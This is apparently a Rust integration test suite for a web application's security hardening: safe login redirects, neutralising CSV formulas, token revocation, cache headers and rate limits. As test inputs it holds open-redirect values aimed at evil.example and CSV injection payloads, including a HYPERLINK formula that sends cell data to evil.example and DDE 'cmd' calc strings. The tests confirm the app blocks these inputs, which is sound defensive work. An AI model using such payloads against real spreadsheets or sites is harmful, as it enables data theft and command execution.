//! Hardening (issue 17) through the router, on SQLite and PostgreSQL:
//! the login's `next`, and the other limits added with it.

use axum::http::StatusCode;
use faro_store::accounts;

mod common;
use common::*;

async fn user_id(site: &Site, email: &str) -> i64 {
    accounts::user_by_email(&site.db.store, email)
        .await
        .unwrap()
        .unwrap()
        .0
        .id
}

#[tokio::test]
async fn login_next_is_a_same_site_path_or_refused() {
    for site in sites().await {
        let uid = user_id(&site, "ed-sena@faro.test").await;
        let refused = [
            "/\t/evil.example",
            "/\n/evil.example",
            "/\r/evil.example",
            "/\x0b/evil.example",
            "/\x0c/evil.example",
            "/\x00/evil.example",
            "/\x7f/evil.example",
            "/\u{85}/evil.example",
            "/ /evil.example",
            " /en/",
            "/en/\u{2028}",
            "//evil.example",
            "/\\evil.example",
            "\\/evil.example",
            "https://evil.example/",
            "javascript:alert(1)",
            "evil.example",
            "/en/x?a=1\n",
        ];
        for next in refused {
            let before = accounts::session_count(&site.db.store, uid).await.unwrap();
            let mut c = Client::new(&site.app);
            // The form never carries a bad `next` further.
            let form = c.get(&format!("/en/login?next={}", enc(next))).await;
            assert_eq!(form.status, StatusCode::OK, "{next:?}");
            assert!(form.body.contains("name=\"next\" value=\"\""), "{next:?}");
            let csrf = c.csrf("/en/login").await;
            let r = c
                .post(
                    "/en/login",
                    &[
                        ("csrf", &csrf),
                        ("email", "ed-sena@faro.test"),
                        ("password", PW),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{next:?}: {}", r.body);
            assert!(r.header("location").is_empty(), "{next:?}");
            assert!(!c.cookies.contains_key("faro_session"), "{next:?}");
            assert_eq!(
                accounts::session_count(&site.db.store, uid).await.unwrap(),
                before,
                "no session for {next:?}"
            );
            assert!(r.body.contains("form"), "the form again: {next:?}");
        }
        for (next, to) in [
            ("/en/account", "/en/account"),
            (
                "/es/observatory?country=UY&page=2",
                "/es/observatory?country=UY&page=2",
            ),
            ("/en/resources/r-1#files", "/en/resources/r-1#files"),
            (
                "/pt/busca?q=educa%C3%A7%C3%A3o",
                "/pt/busca?q=educa%C3%A7%C3%A3o",
            ),
            ("/pt/busca?q=educação", "/pt/busca?q=educa%C3%A7%C3%A3o"),
            ("/en/../es/", "/es/"),
            ("", "/en/"),
        ] {
            let mut c = Client::new(&site.app);
            let csrf = c.csrf("/en/login").await;
            let r = c
                .post(
                    "/en/login",
                    &[
                        ("csrf", &csrf),
                        ("email", "ed-sena@faro.test"),
                        ("password", PW),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
            assert_eq!(r.header("location"), to, "{next:?}");
            assert!(c.cookies.contains_key("faro_session"));
        }
    }
}

async fn download(site: &Site, path: &str) -> Vec<u8> {
    let mut c = Client::new(&site.app);
    let r = c.get(path).await;
    assert_eq!(r.status, StatusCode::OK, "{path}");
    r.body.into_bytes()
}

/// Every cell of a CSV file, read by the `csv` crate.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn assert_no_formula_cell(name: &str, bytes: &[u8]) {
    for row in cells(bytes) {
        for c in row {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name}: a spreadsheet would run {c:?}"
            );
        }
    }
}

#[tokio::test]
async fn csv_files_for_people_neutralise_formulas_and_import_back_losslessly() {
    use faro_store::changes::Actor;
    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
    for site in sites().await {
        let store = &site.db.store;
        let actor = Actor::new("test", None);
        let cb = faro_domain::observatory::current();
        // A measure, a resource and a course whose texts are formulas.
        let mut m = faro_store::observatory::walk(store, None, 1).await.unwrap()[0].clone();
        m.title_en = EVIL.into();
        m.description_en = "+cmd|' /C calc'!A0".into();
        m.notes = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        m.source_title = "'=already quoted".into();
        m.description_es = "-2+3".into();
        faro_store::observatory::upsert_all(store, std::slice::from_ref(&m), &actor)
            .await
            .unwrap();
        let mut r = faro_store::knowledge::walk(store, None, 1).await.unwrap()[0]
            .resource
            .clone();
        r.title_en = EVIL.into();
        r.description_en = "@cmd".into();
        faro_store::knowledge::upsert_all(store, std::slice::from_ref(&r), &actor)
            .await
            .unwrap();
        let mut course = faro_store::courses::walk(store, None, 1).await.unwrap()[0]
            .course
            .clone();
        course.title_en = EVIL.into();
        course.description_en = "+=1".into();
        faro_store::courses::upsert_all(store, std::slice::from_ref(&course), &actor)
            .await
            .unwrap();

        let measures = download(&site, "/data/measures.csv").await;
        let changes = download(&site, "/data/measures-changes.csv").await;
        let resources = download(&site, "/data/resources.csv").await;
        let courses = download(&site, "/data/courses.csv").await;
        for (n, b) in [
            ("measures.csv", &measures),
            ("measures-changes.csv", &changes),
            ("resources.csv", &resources),
            ("courses.csv", &courses),
        ] {
            assert_no_formula_cell(n, b);
        }
        let all: Vec<String> = cells(&measures).into_iter().flatten().collect();
        assert!(
            all.contains(&format!("'{EVIL}")),
            "OWASP's leading apostrophe"
        );
        assert!(all.contains(&"''=already quoted".to_string()));
        let all: Vec<String> = cells(&changes).into_iter().flatten().collect();
        assert!(all.contains(&format!("'{EVIL}")));

        // Faro's own readers (the imports) undo it exactly.
        let back = faro_formats::measures_csv::read(&measures, cb).unwrap();
        let got = back.iter().find(|x| x.id == m.id).unwrap();
        assert_eq!(got.title_en, EVIL);
        assert_eq!(got.description_en, m.description_en);
        assert_eq!(got.notes, m.notes);
        assert_eq!(got.source_title, m.source_title);
        assert_eq!(got.description_es, m.description_es);
        let back = faro_formats::resources_csv::read(&resources, cb).unwrap();
        assert_eq!(
            back.iter().find(|x| x.id == r.id).unwrap(),
            &r,
            "the resource as stored"
        );
        let back = faro_formats::courses_csv::read(&courses, cb).unwrap();
        let got = back.iter().find(|x| x.id == course.id).unwrap();
        assert_eq!(got.title_en, EVIL);
        assert_eq!(got.description_en, course.description_en);
        // Importing the downloaded files changes nothing.
        let rep = faro_store::knowledge::upsert_all(
            store,
            &faro_formats::resources_csv::read(&resources, cb).unwrap(),
            &actor,
        )
        .await
        .unwrap();
        assert_eq!((rep.created, rep.updated), (0, 0), "resources round trip");
        let rep = faro_store::courses::upsert_all(
            store,
            &faro_formats::courses_csv::read(&courses, cb).unwrap(),
            &actor,
        )
        .await
        .unwrap();
        assert_eq!((rep.created, rep.updated), (0, 0), "courses round trip");

        // The data package says so.
        let dp: serde_json::Value =
            serde_json::from_slice(&download(&site, "/data/datapackage.json").await).unwrap();
        let d = dp["description"].as_str().unwrap();
        assert!(d.contains("OWASP") && d.contains("apostrophe"), "{d}");
    }
}

#[tokio::test]
async fn api_tokens_end_with_a_reset_by_link_and_on_request_with_a_password_change() {
    for site in sites().await {
        let store = &site.db.store;
        let uid = user_id(&site, "ed-sena@faro.test").await;
        let (_, secret) = accounts::create_token(store, uid, "laptop").await.unwrap();
        assert!(
            accounts::token_principal(store, &secret)
                .await
                .unwrap()
                .is_some()
        );
        // A password change without the box ticked keeps the tokens.
        let mut ed = Client::login(&site.app, "ed-sena@faro.test").await;
        let form = ed.get("/en/account/password").await;
        assert!(form.body.contains("name=\"revoke_tokens\""), "offered");
        let r = ed
            .submit(
                "/en/account/password",
                "/en/account/password",
                &[
                    ("current_password", PW),
                    ("new_password", "another long password"),
                    ("confirm_password", "another long password"),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        assert!(
            accounts::token_principal(store, &secret)
                .await
                .unwrap()
                .is_some()
        );
        // Ticked: revoked.
        let r = ed
            .submit(
                "/en/account/password",
                "/en/account/password",
                &[
                    ("current_password", "another long password"),
                    ("new_password", PW),
                    ("confirm_password", PW),
                    ("revoke_tokens", "1"),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        assert!(r.body.contains("1 API token"), "{}", r.body);
        assert!(
            accounts::token_principal(store, &secret)
                .await
                .unwrap()
                .is_none()
        );
        // A reset by link revokes them all, without asking.
        let (_, s1) = accounts::create_token(store, uid, "script").await.unwrap();
        let (_, s2) = accounts::create_token(store, uid, "ci").await.unwrap();
        let link = accounts::create_link(store, uid, accounts::PURPOSE_RESET)
            .await
            .unwrap();
        let mut anon = Client::new(&site.app);
        let page = format!("/en/password-reset/{link}");
        let r = anon
            .submit(
                &page,
                &page,
                &[("new_password", PW), ("confirm_password", PW)],
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        for s in [s1, s2] {
            assert!(
                accounts::token_principal(store, &s)
                    .await
                    .unwrap()
                    .is_none()
            );
        }
    }
}

#[tokio::test]
async fn signed_in_pages_are_private_https_sites_send_hsts_and_files_revalidate() {
    for site in sites().await {
        let mut anon = Client::new(&site.app);
        let home = anon.get("/en/").await;
        assert!(!home.header("cache-control").contains("no-store"));
        assert!(
            home.header("strict-transport-security").is_empty(),
            "plain http: no HSTS"
        );
        let mut ed = Client::login(&site.app, "ed-sena@faro.test").await;
        for path in [
            "/en/",
            "/en/account",
            "/en/resources/r-cinterfor-member-survey",
        ] {
            let r = ed.get(path).await;
            assert_eq!(r.header("cache-control"), "private, no-store", "{path}");
        }
        // A stored file: revalidated by its hash, never `immutable`; gone
        // once removed.
        let store = &site.db.store;
        faro_store::knowledge::upsert_all(
            store,
            &[faro_domain::knowledge::Resource {
                id: "r-cache-sena".into(),
                resource_type: "report".into(),
                institutions: vec!["sena".into()],
                title_en: "Cache".into(),
                original_language: "en".into(),
                ..Default::default()
            }],
            &faro_store::changes::Actor::new("setup", None),
        )
        .await
        .unwrap();
        let page = "/en/resources/r-cache-sena";
        let csrf = ed.csrf(page).await;
        let b = "bb";
        let mut body = format!(
            "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.png\"\r\n\r\n"
        )
        .into_bytes();
        body.extend_from_slice(b"\x89PNG\r\n\x1a\ncache test");
        body.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
        let r = ed
            .send_bytes(
                "POST",
                &format!("{page}/files?csrf={csrf}"),
                body,
                &format!("multipart/form-data; boundary={b}"),
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
        let sha = faro_store::files::for_resource(store, "r-cache-sena")
            .await
            .unwrap()[0]
            .sha256
            .clone();
        let f = anon.get(&format!("/files/{sha}")).await;
        assert_eq!(f.status, StatusCode::OK);
        assert!(
            !f.header("cache-control").contains("immutable"),
            "{}",
            f.header("cache-control")
        );
        assert!(f.header("cache-control").contains("no-cache"));
        let etag = f.header("etag");
        assert_eq!(etag, format!("\"{sha}\""));
        anon.headers.push(("if-none-match".into(), etag.clone()));
        assert_eq!(
            anon.get(&format!("/files/{sha}")).await.status,
            StatusCode::NOT_MODIFIED
        );
        let r = ed
            .submit(page, &format!("{page}/files/{sha}/remove"), &[])
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER);
        assert_eq!(
            anon.get(&format!("/files/{sha}")).await.status,
            StatusCode::NOT_FOUND
        );
    }
    let db = faro_store::testing::sqlite().await;
    let https = site_with(
        db,
        faro_web::WebConfig {
            public_url: "https://faro.example.org".into(),
            secure_cookies: true,
            ..Default::default()
        },
    )
    .await;
    let r = Client::new(&https.app).get("/en/").await;
    assert_eq!(r.header("strict-transport-security"), "max-age=31536000");
}

/// An SMTP relay that holds every connection until `open` is sent, in
/// front of the test sink.
async fn gated_smtp(sink_port: u16) -> (u16, tokio::sync::watch::Sender<bool>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = tokio::sync::watch::channel(false);
    tokio::spawn(async move {
        loop {
            let Ok((mut inbound, _)) = listener.accept().await else {
                return;
            };
            let mut rx = rx.clone();
            tokio::spawn(async move {
                while !*rx.borrow() {
                    if rx.changed().await.is_err() {
                        return;
                    }
                }
                let mut out = tokio::net::TcpStream::connect(("127.0.0.1", sink_port))
                    .await
                    .unwrap();
                let _ = tokio::io::copy_bidirectional(&mut inbound, &mut out).await;
            });
        }
    });
    (port, tx)
}

async fn wait_for_mail(
    inbox: &std::sync::Arc<tokio::sync::Mutex<Vec<String>>>,
    n: usize,
) -> Vec<String> {
    for _ in 0..100 {
        if inbox.lock().await.len() >= n {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    // A moment more, to see that nothing else comes.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    inbox.lock().await.clone()
}

#[tokio::test]
async fn reset_requests_answer_before_any_mail_and_are_throttled() {
    use axum::extract::connect_info::MockConnectInfo;
    for db in faro_store::testing::all_backends().await {
        let (sink, inbox) = smtp_sink().await;
        let (port, gate) = gated_smtp(sink).await;
        let mailer =
            faro_web::mail::Mailer::from_url(&format!("smtp://127.0.0.1:{port}"), "faro@faro.test")
                .unwrap();
        let proxy: std::net::IpAddr = "10.0.0.1".parse().unwrap();
        let site = site_with(
            db,
            faro_web::WebConfig {
                mailer: Some(mailer),
                trusted_proxies: vec![proxy],
                reset_limit: 5,
                reset_limit_account: 2,
                ..Default::default()
            },
        )
        .await;
        let app = site
            .app
            .clone()
            .layer(MockConnectInfo(std::net::SocketAddr::from((
                [10, 0, 0, 1],
                5555,
            ))));
        let from = |ip: &str| {
            let mut c = Client::new(&app);
            c.headers.push(("x-forwarded-for".into(), ip.into()));
            c
        };
        // The relay holds the mail: the known account still answers at
        // once, with the same page as an unknown one.
        let mut c = from("203.0.113.1");
        let known = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            c.submit(
                "/en/password-reset",
                "/en/password-reset",
                &[("email", "coord@faro.test")],
            ),
        )
        .await
        .expect("answered without waiting for the mail server");
        let unknown = c
            .submit(
                "/en/password-reset",
                "/en/password-reset",
                &[("email", "ghost@faro.test")],
            )
            .await;
        assert_eq!(known.status, StatusCode::OK);
        assert_eq!(known.body, unknown.body);
        assert!(inbox.lock().await.is_empty(), "held by the relay");
        gate.send(true).unwrap();
        let mails = wait_for_mail(&inbox, 1).await;
        assert_eq!(mails.len(), 1, "only the real account gets mail");
        // Per account: many requests from many clients, two links an hour.
        for i in 0..8 {
            let mut c = from(&format!("203.0.113.{}", 20 + i));
            let r = c
                .submit(
                    "/en/password-reset",
                    "/en/password-reset",
                    &[("email", "coord@faro.test")],
                )
                .await;
            assert_eq!(r.status, StatusCode::OK);
        }
        let mails = wait_for_mail(&inbox, 2).await;
        assert_eq!(mails.len(), 2, "at most two links an hour for one account");
        // Per client: the sixth request in ten minutes is refused, whatever the address.
        let mut c = from("203.0.113.99");
        for i in 0..5 {
            let r = c
                .submit(
                    "/en/password-reset",
                    "/en/password-reset",
                    &[("email", &format!("nobody{i}@faro.test"))],
                )
                .await;
            assert_eq!(r.status, StatusCode::OK);
        }
        let r = c
            .submit(
                "/es/password-reset",
                "/es/password-reset",
                &[("email", "nobody9@faro.test")],
            )
            .await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
        assert!(!r.header("retry-after").is_empty());
    }
}

#[tokio::test]
async fn failed_logins_slow_an_account_down_but_never_lock_it() {
    use axum::extract::connect_info::MockConnectInfo;
    for db in faro_store::testing::all_backends().await {
        let proxy: std::net::IpAddr = "10.0.0.1".parse().unwrap();
        let site = site_with(
            db,
            faro_web::WebConfig {
                trusted_proxies: vec![proxy],
                login_limit_account: 3,
                login_limit_client: 20,
                login_slowdown: std::time::Duration::from_millis(150),
                ..Default::default()
            },
        )
        .await;
        let app = site
            .app
            .clone()
            .layer(MockConnectInfo(std::net::SocketAddr::from((
                [10, 0, 0, 1],
                5555,
            ))));
        let from = |ip: &str| {
            let mut c = Client::new(&app);
            c.headers.push(("x-forwarded-for".into(), ip.into()));
            c
        };
        let attempt = |c: &mut Client, pw: &'static str| {
            let mut c = c.clone();
            async move {
                let t = std::time::Instant::now();
                let r = c
                    .submit(
                        "/en/login",
                        "/en/login",
                        &[("email", "ed-sena@faro.test"), ("password", pw)],
                    )
                    .await;
                (
                    r.status,
                    t.elapsed(),
                    c.cookies.contains_key("faro_session"),
                )
            }
        };
        // Someone guesses from one address, then from others.
        let mut attacker = from("198.51.100.1");
        for _ in 0..3 {
            assert_eq!(attempt(&mut attacker, "guess").await.0, StatusCode::OK);
        }
        // That address is refused for this account, even with the right password.
        assert_eq!(
            attempt(&mut attacker, PW).await.0,
            StatusCode::TOO_MANY_REQUESTS
        );
        for i in 0..4 {
            let mut other = from(&format!("198.51.100.{}", 10 + i));
            let (s, took, _) = attempt(&mut other, "guess").await;
            assert_eq!(s, StatusCode::OK);
            // Slowed: every attempt on the account now waits.
            assert!(took >= std::time::Duration::from_millis(150), "{took:?}");
        }
        // The owner, from an address that has not been failing, gets in.
        let mut owner = from("203.0.113.77");
        let (s, _, session) = attempt(&mut owner, PW).await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        assert!(session);
    }
}

#[tokio::test]
async fn data_files_revalidate_by_data_version_and_heavy_downloads_are_bounded() {
    use axum::body::Body;
    use tower::ServiceExt;
    for db in faro_store::testing::all_backends().await {
        let site = site_with(
            db,
            faro_web::WebConfig {
                heavy_downloads: std::sync::Arc::new(tokio::sync::Semaphore::new(1)),
                ..Default::default()
            },
        )
        .await;
        let mut c = Client::new(&site.app);
        let r = c.get("/data/measures.csv").await;
        assert_eq!(r.status, StatusCode::OK);
        let etag = r.header("etag");
        let modified = r.header("last-modified");
        assert!(
            etag.starts_with('"') && !modified.is_empty(),
            "{etag} {modified}"
        );
        let mut again = Client::new(&site.app);
        again.headers.push(("if-none-match".into(), etag.clone()));
        let r = again.get("/data/measures.csv").await;
        assert_eq!(r.status, StatusCode::NOT_MODIFIED);
        assert!(r.body.is_empty());
        let mut since = Client::new(&site.app);
        since
            .headers
            .push(("if-modified-since".into(), modified.clone()));
        assert_eq!(
            since.get("/data/measures-changes.csv").await.status,
            StatusCode::NOT_MODIFIED
        );
        // A write makes a new version: the file is sent again.
        let m = faro_store::observatory::walk(&site.db.store, None, 1)
            .await
            .unwrap()[0]
            .clone();
        let m = faro_domain::observatory::Measure {
            notes: "changed for the cache test".into(),
            ..m
        };
        faro_store::observatory::upsert_all(
            &site.db.store,
            &[m],
            &faro_store::changes::Actor::new("t", None),
        )
        .await
        .unwrap();
        let r = again.get("/data/measures.csv").await;
        assert_eq!(r.status, StatusCode::OK);
        assert_ne!(r.header("etag"), etag);
        assert!(r.body.contains("changed for the cache test"));
        // One slot: while a download is being sent, the next gets 503.
        let held = site
            .app
            .clone()
            .oneshot(
                axum::http::Request::builder()
                    .uri("/data/measures-changes.csv")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(held.status(), StatusCode::OK);
        for path in ["/data/measures.csv", "/data/releases/none/measures.csv"] {
            let r = Client::new(&site.app).get(path).await;
            assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{path}");
            assert_eq!(r.header("retry-after"), "5");
        }
        drop(held);
        assert_eq!(
            Client::new(&site.app)
                .get("/data/measures.csv")
                .await
                .status,
            StatusCode::OK
        );
    }
}
